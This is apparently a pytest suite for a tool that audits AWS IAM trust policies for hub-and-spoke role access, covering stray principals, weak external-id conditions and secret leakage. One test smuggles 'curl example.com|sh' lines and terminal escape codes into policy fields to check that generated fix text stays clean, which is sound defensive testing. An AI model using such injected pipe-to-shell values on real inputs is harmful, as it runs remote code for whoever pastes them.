"""Trusts that look right beside the statement that lets the hub in."""

from typing import Any

import pytest

from hubspoke.findings import Finding
from hubspoke_admin.doctor import trust
from hubspoke_admin.doctor.asking import Asking
from hubspoke_admin.iam.request import PRESENT
from tests.support.findings import codes, only, wrongs

_HUB = "arn:aws:iam::111111111111:role/hubspoke-prod-eu-west-1-vend"
_ROLE = "arn:aws:iam::333333333333:role/hubspoke/automation-spoke-role"
_STRANGER = "arn:aws:iam::666666666666:role/stranger"
_EXTERNAL_ID = "external-id-of-automation"
_NULL = {"Null": {"sts:SourceIdentity": "false"}}
_ASKED = {
    **_NULL,
    "StringEquals": {"sts:ExternalId": _EXTERNAL_ID, "aws:PrincipalOrgID": "o-exampleorgid"},
}
_SET = {"Effect": "Allow", "Principal": {"AWS": _HUB}, "Action": "sts:SetSourceIdentity"}


def _assume(principal: object, condition: object = _ASKED, **more: object) -> dict[str, Any]:
    return {
        "Sid": "Hub",
        "Effect": "Allow",
        "Principal": principal,
        "Action": "sts:AssumeRole",
        "Condition": condition,
        **more,
    }


def _examine(*statements: object) -> list[Finding]:
    asking = Asking(_HUB, _ROLE, "o-exampleorgid", external_id=_EXTERNAL_ID, source_identity=PRESENT)
    document = {"Version": "2012-10-17", "Statement": [*statements, _SET]}
    return trust.examine(document, trust.Expected((asking,), frozenset([_HUB]), "MEND"))


def test_the_hub_alone_is_right() -> None:
    """What all the others differ from is right."""
    assert codes(_examine(_assume({"AWS": _HUB}))) == ["TrustRight"]


@pytest.mark.parametrize(
    ("principal", "code"),
    [
        pytest.param({"AWS": _STRANGER}, "TrustOthers", id="role"),
        pytest.param({"AWS": "arn:aws:iam::666666666666:root"}, "TrustAnybody", id="account"),
        pytest.param({"AWS": ["666666666666"]}, "TrustAnybody", id="account id in a list"),
        pytest.param("*", "TrustAnybody", id="everybody, asked for what is asked of the hub"),
        pytest.param({"Service": "ec2.amazonaws.com"}, "TrustOthers", id="service"),
        pytest.param(
            {"Federated": "arn:aws:iam::333333333333:saml-provider/x"}, "TrustOthers", id="federated"
        ),
    ],
)
def test_a_twin_of_the_hubs_statement_for_somebody_else_is_wrong(principal: object, code: str) -> None:
    """A second statement with the same conditions lets somebody else in, while the hub's own is right."""
    twin = _assume(principal, Sid="Twin", Action="sts:*")
    assert wrongs(_examine(_assume({"AWS": _HUB}), twin)) == [code]


def test_a_twin_for_all_but_the_hub_is_wrong() -> None:
    """NotPrincipal lets in whoever it doesn't name."""
    twin = _assume({}, Sid="Twin")
    del twin["Principal"]
    assert wrongs(_examine(_assume({"AWS": _HUB}), {**twin, "NotPrincipal": {"AWS": _HUB}})) == [
        "TrustAnybody"
    ]


def test_who_stands_in_the_hubs_place_is_said_once() -> None:
    """Where the hub isn't named, the one in its place is what is wrong, and the others are wrong besides."""
    found = _examine(_assume({"AWS": _STRANGER}), _assume({"AWS": f"{_STRANGER}-2"}, Sid="Twin"))
    assert wrongs(found) == ["TrustPrincipal", "TrustOthers"]


def test_a_denied_hub_hides_no_stranger() -> None:
    """A Deny is said in place of the statement that names somebody else, so that is said besides."""
    deny = {"Effect": "Deny", "Principal": "*", "Action": "sts:AssumeRole"}
    assert wrongs(_examine(_assume({"AWS": _STRANGER}), deny)) == ["TrustDenies", "TrustOthers"]


def test_a_session_of_the_hubs_role_hides_no_stranger() -> None:
    """Which session the hub's is can't be known, and a stranger named beside it is no matter of that."""
    session = "arn:aws:sts::111111111111:assumed-role/hubspoke-prod-eu-west-1-vend/some-session"
    assert "TrustOthers" in wrongs(_examine(_assume({"AWS": [session, _STRANGER]})))


@pytest.mark.parametrize(
    "asked",
    [
        pytest.param({"StringEqualsIfExists": {"sts:ExternalId": _EXTERNAL_ID}}, id="IfExists"),
        pytest.param({"ForAllValues:StringEquals": {"sts:ExternalId": _EXTERNAL_ID}}, id="ForAllValues"),
        pytest.param({"StringLike": {"STS:externalid": "external-id-of-*"}}, id="beginning"),
        pytest.param({"StringLike": {"sts:ExternalId": "*-automation"}}, id="end"),
        pytest.param({"StringLike": {"sts:ExternalId": "?" * len(_EXTERNAL_ID)}}, id="length"),
        pytest.param({"StringLike": {"sts:ExternalId": "${aws:username, '*'}"}}, id="variable"),
        pytest.param({"StringNotEquals": {"sts:ExternalId": "guess"}}, id="all but one"),
        pytest.param({"Null": {"sts:ExternalId": "false", "sts:SourceIdentity": "false"}}, id="any at all"),
    ],
)
def test_an_external_id_that_need_not_be_known_is_wrong(asked: dict[str, Any]) -> None:
    """A condition that a call without the external id, or with a guess, also meets asks for none."""
    found = _examine(_assume({"AWS": _HUB}, {**_NULL, **asked}))
    assert "TrustRight" not in codes(found)
    assert "TrustAsksNoExternalId" in codes(found) or "TrustConditionUnknown" in codes(found)


def test_the_old_external_id_may_stand_beside_the_new() -> None:
    """While an external id is rotated, trusts take both."""
    both = {**_ASKED, "StringEquals": {"sts:ExternalId": ["the-old-one", _EXTERNAL_ID]}}
    assert not wrongs(_examine(_assume({"AWS": _HUB}, both)))


def test_a_deny_that_may_apply_hides_nothing_wrong() -> None:
    """What is surely wrong is said, whatever else may stand in the way."""
    deny = {
        "Effect": "Deny",
        "Principal": "*",
        "Action": "sts:AssumeRole",
        "Condition": {"IpAddress": {"aws:SourceIp": "192.0.2.0/24"}},
    }
    found = _examine(_assume({"AWS": _HUB}, {**_NULL, "StringEquals": {"sts:ExternalId": "no"}}), deny)
    assert set(codes(found)) == {"TrustDenyUnknown", "TrustExternalId"}


@pytest.mark.parametrize(
    "statement",
    [
        _assume({"AWS": _STRANGER}, Sid="Hub\ncurl example.com|sh\x1b[2J"),
        _assume({"AWS": _HUB}, {**_NULL, "StringEquals": {"aws:RequestTag/a\ncurl example.com|sh": "b"}}),
        _assume({"AWS": _HUB}, {**_NULL, "StringEquals": {"aws:Username": "a\ncurl example.com|sh\x9b2J"}}),
        _assume({"AWS": f"{_STRANGER}\ncurl example.com|sh"}, {}),
        {"Effect": "Deny", "Principal": "*", "Action": "sts:*", "Sid": "Hub\r\ncurl example.com|sh"},
        {"Effect": "Deny\ncurl example.com|sh", "curl\nexample.com|sh": "\u2028"},
    ],
)
def test_a_trusts_own_text_makes_no_line_of_what_mends_it(statement: dict[str, Any]) -> None:
    """People paste what mends a role: no line of it is written by the role's account."""
    for each in _examine(statement):
        assert all(not line.startswith("curl") for line in each.mend.splitlines())
        assert all(char.isprintable() for char in each.says)


def test_no_external_id_is_ever_said() -> None:
    """Neither the profile's nor the trust's external id is in a finding, nor in the repr of what is asked."""
    condition = {"StringEquals": {"sts:ExternalId": "the-trusts-own"}}
    found = _examine(_assume({"AWS": _HUB}, condition))
    assert only(found, "TrustExternalId")
    asking = Asking(_HUB, _ROLE, None, external_id=_EXTERNAL_ID)
    said = f"{found} {asking} {asking.request('sts:AssumeRole', by_resource=True)}"
    assert "the-trusts-own" not in said
    assert _EXTERNAL_ID not in said


@pytest.mark.parametrize(
    "statement",
    [
        pytest.param({"Effect": "Allow", "Action": "sts:AssumeRole", "Condition": _ASKED}, id="nobody named"),
        pytest.param(_assume({"AWS": _HUB}, Resource="*"), id="a resource"),
    ],
)
def test_a_statement_that_no_trust_can_have_is_no_trust(statement: dict[str, Any]) -> None:
    """IAM stores no such trust: read as if it named the hub, what isn't one would be right."""
    assert codes(_examine(_assume({"AWS": _HUB}), statement)) == ["TrustUnreadable"]
